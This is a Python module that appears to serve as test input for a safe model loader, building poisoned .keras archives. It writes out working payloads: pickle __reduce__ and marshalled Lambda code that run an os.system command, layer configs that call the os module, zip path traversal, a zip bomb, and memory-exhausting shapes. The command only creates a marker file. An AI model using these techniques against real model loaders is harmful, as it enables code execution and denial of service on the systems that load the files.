"""Poisoned .keras files, written with zipfile and json alone: what a learner hands in beside a notebook."""

import base64
import io
import json
import marshal
import pickle
import zipfile
from typing import Any

MARK = "/tmp/poisoned"  # what code in a file would leave
_RUN = f"__import__('os').system('touch {MARK} ../poisoned')"


class _Command:
    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (eval, (_RUN,))


def _layer(class_name: str, config: dict[str, Any], module: str = "keras.layers") -> dict[str, Any]:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def _model(*layers: dict[str, Any]) -> dict[str, Any]:
    first = _layer("InputLayer", {"batch_shape": [None, 3], "dtype": "float32", "name": "input"})
    return _layer("Sequential", {"name": "s", "trainable": True, "layers": [first, *layers]}, "keras")


def _archive(config: Any, *entries: tuple[str, bytes], text: str = "") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}))
        archive.writestr("config.json", text or json.dumps(config))
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def _lambda() -> dict[str, Any]:
    code = base64.b64encode(marshal.dumps(compile(_RUN, "x", "eval"))).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    return _layer("Lambda", {"name": "lambda", "function": function})


def _zip_bomb() -> bytes:
    """Weights of 3 GiB in a file of 3 MiB."""
    buffer = io.BytesIO(_archive(_model(_layer("Dense", {"units": 3, "name": "d"}))))
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("model.weights.h5", "w", force_zip64=True) as entry,
    ):
        for _ in range(3 * 2**10):
            entry.write(bytes(2**20))
    return buffer.getvalue()


POISON = {
    "code_in_a_lambda": lambda: _archive(_model(_lambda())),
    "a_class_of_another_module": lambda: _archive(_layer("system", {"command": f"touch {MARK}"}, "os")),
    "a_function_of_another_module": lambda: _archive(
        _model(_layer("Activation", {"activation": {"module": "os", "class_name": "function", "config": "system"}}))
    ),
    "a_path_that_leads_out": lambda: _archive(
        _model(), ("../../poisoned", b"x"), (MARK, b"x"), ("assets/../../../poisoned", b"x")
    ),
    "a_pickle_for_weights": lambda: _archive(
        _model(_layer("Dense", {"units": 3, "name": "d"})), ("model.weights.npz", pickle.dumps(_Command())),
        ("model.weights.h5", pickle.dumps(_Command())),
    ),
    "a_pickle": lambda: pickle.dumps(_Command()),
    "a_zip_bomb": _zip_bomb,
    "shapes_beyond_all_memory": lambda: _archive(_model(_layer("Dense", {"units": 2**40, "name": "d"}))),
    "a_tower_of_brackets": lambda: _archive(None, text="[" * 10**6),
    "nothing": lambda: b"",
}  # fmt: skip
